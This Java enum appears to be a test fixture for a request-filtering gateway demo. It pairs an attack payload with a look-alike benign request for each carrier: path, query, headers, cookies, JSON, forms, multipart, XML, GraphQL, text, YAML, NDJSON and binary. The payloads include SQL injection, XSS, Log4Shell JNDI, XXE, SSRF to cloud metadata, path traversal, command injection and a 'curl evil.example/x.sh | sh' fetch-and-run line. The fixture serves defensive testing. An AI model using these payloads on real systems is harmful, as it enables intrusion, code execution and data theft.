package io.github.raspspring.demo;

/**
 * What a request carries through a gateway, and in what: an attack, and honest use that
 * looks like it.
 */
enum Carried {

	IN_PATH(Wire.get("/api/books/x'%20UNION%20SELECT%20id,%20content%20FROM%20secrets%20--%20"),
			Wire.get("/api/books/O'Reilly%20%26%20S%C3%B6hne")),

	IN_QUERY(Wire.get("/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
			Wire.get("/search?b=2&a=1&q=a+b%20c%26d&a=3&e=&g=%E2%82%AC~!*'()&f")),

	IN_EXPRESSION(Wire.get("/render?t=T(java.lang.Runtime).getRuntime().exec('id')"),
			Wire.get("/render?t=T(n)%20=%20n.next()%20+%201")),

	IN_HEADER(Wire.get("/header", "X-Api-Version: ${jndi:ldap://evil.example/a}"),
			Wire.get("/header", "X-Api-Version: 2.1 (beta; ${x}) \"q\"", "Accept: text/html;q=0.9, */*;q=0.1",
					"TE: trailers", "Keep-Alive: timeout=5", "X-Empty:", "X-Twice: a", "X-Twice: b")),

	IN_COOKIE(Wire.get("/cookie", "Cookie: lang=en; theme=../../../../etc/passwd"),
			Wire.get("/cookie", "Cookie: lang=en-GB; theme=dark/../light; pref=a%20b")),

	IN_JSON(json("{\"comment\":\"x'; DROP TABLE users; --\"}"),
			json("{ \"a\":1.0e0, \"a\" : 2,\t\"comment\":\"drop me a line; -- O'Reilly \\u00e9\" }\n")),

	IN_JSON_OPERATOR(json("{\"user\":\"admin\",\"password\":{\"$ne\":null}}"),
			json("{\"user\":\"admin\",\"price\":\"$ne 5\"}")),

	IN_JSON_URL(json("{\"url\":\"http://169.254.169.254/latest/meta-data/\"}"),
			json("{\"url\":\"https://covers.example/169.254/meta-data\"}")),

	IN_FORM(form("POST", "host=127.0.0.1%3Bcat+%2Fetc%2Fpasswd"),
			form("POST", "b=2&a=1&a=%7E+x&c=x%20y&d=&z=%E2%82%AC")),

	IN_FORM_BY_PUT(form("PUT", "host=127.0.0.1%3Bcat+%2Fetc%2Fpasswd"),
			form("PUT", "b=2&a=1&a=%7E+x&c=x%20y&d=&z=%E2%82%AC")),

	IN_PART(multipart("name=\"note\"\r\n\r\nx' UNION SELECT content FROM secrets --"),
			multipart("name=\"note\"\r\n\r\nselect the best, or drop me a line; --")),

	IN_FILE_NAME(multipart("name=\"f\"; filename=\"../../../../etc/cron.d/x\"\r\n\r\nx"),
			multipart("name=\"f\"; filename=\"Bericht ..2026.pdf\"\r\nContent-Type: application/pdf\r\n\r\n"
					+ "%PDF-1.7\r\n\u00e2\u00e3\u0000\u00ff")),

	IN_XML(xml("<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"),
			xml("<a xmlns='u'>\n<b c=\"d\"><![CDATA[<!ENTITY is a word>]]></b></a>")),

	IN_GRAPHQL(json("{\"query\":\"{ books(title: \\\"x' UNION SELECT content FROM secrets --\\\") { id } }\"}"),
			json("{\"query\":\"query Books { books(title: \\\"O'Reilly\\\") { id select: title } }\"}")),

	IN_TEXT(text("hello; curl -s http://evil.example/x.sh | sh"),
			text("hello; curl up with a book, and see http://covers.example\r\n")),

	IN_YAML(yaml(
			"a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://e.example\"]]]]"),
			yaml("a: b # !!important\nlist:\n  - \"c: d\"\n")),

	IN_LINES(lines("{\"a\":1}\n{\"b\":\"x' UNION SELECT content FROM secrets --\"}\n").inChunks(),
			lines("{\"a\":1}\n{\"b\":\"the union selects a secret ballot -- again\"}\n").inChunks()),

	IN_BINARY(binary("\u00ac\u00ed\u0000\u0005sr\u0000:org.apache.commons.collections.functors.InvokerTransformer"),
			binary("\u0089PNG\r\n\u001a\n\u0000\u0000\u0000\rIHDR\u0000\u00ff"));

	private final Wire attack;

	private final Wire honest;

	Carried(Wire attack, Wire honest) {
		this.attack = attack;
		this.honest = honest;
	}

	Wire attack() {
		return this.attack;
	}

	Wire honest() {
		return this.honest;
	}

	private static Wire json(String body) {
		return Wire.body("POST", "/json", "application/json", body);
	}

	private static Wire form(String method, String body) {
		return Wire.body(method, "/form?a=0&q=x", "application/x-www-form-urlencoded", body);
	}

	private static Wire multipart(String part) {
		return Wire.body("POST", "/parts", "multipart/form-data; boundary=\"of the test\"",
				"preamble\r\n--of the test\r\nContent-Disposition: form-data; " + part
						+ "\r\n--of the test--\r\nepilogue");
	}

	private static Wire xml(String body) {
		return Wire.body("PATCH", "/xml", "application/xml", body);
	}

	private static Wire text(String body) {
		return Wire.body("POST", "/text", "text/plain;charset=UTF-8", body);
	}

	private static Wire yaml(String body) {
		return Wire.body("POST", "/yaml", "application/yaml", body);
	}

	private static Wire lines(String body) {
		return Wire.body("POST", "/written", "application/x-ndjson", body);
	}

	private static Wire binary(String body) {
		return Wire.body("PUT", "/binary", "application/octet-stream", body);
	}

}
